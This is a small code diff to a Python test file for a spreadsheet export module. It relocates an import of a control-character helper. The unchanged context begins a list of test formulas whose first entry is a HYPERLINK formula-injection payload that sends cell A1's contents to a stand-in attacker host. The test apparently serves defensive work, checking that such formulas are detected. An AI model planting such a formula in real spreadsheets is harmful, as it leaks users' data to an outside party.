@@ -14,7 +14,6 @@ from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 from openpyxl import load_workbook
 
-from qa_app.control_characters import writable
 from qa_app.documents.spreadsheet import (
     CELL_LIMIT,
     Look,
@@ -23,6 +22,7 @@ from qa_app.documents.spreadsheet import (
     looks_like_formula,
     tables_xlsx,
 )
+from qa_app.rules.control_characters import writable
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
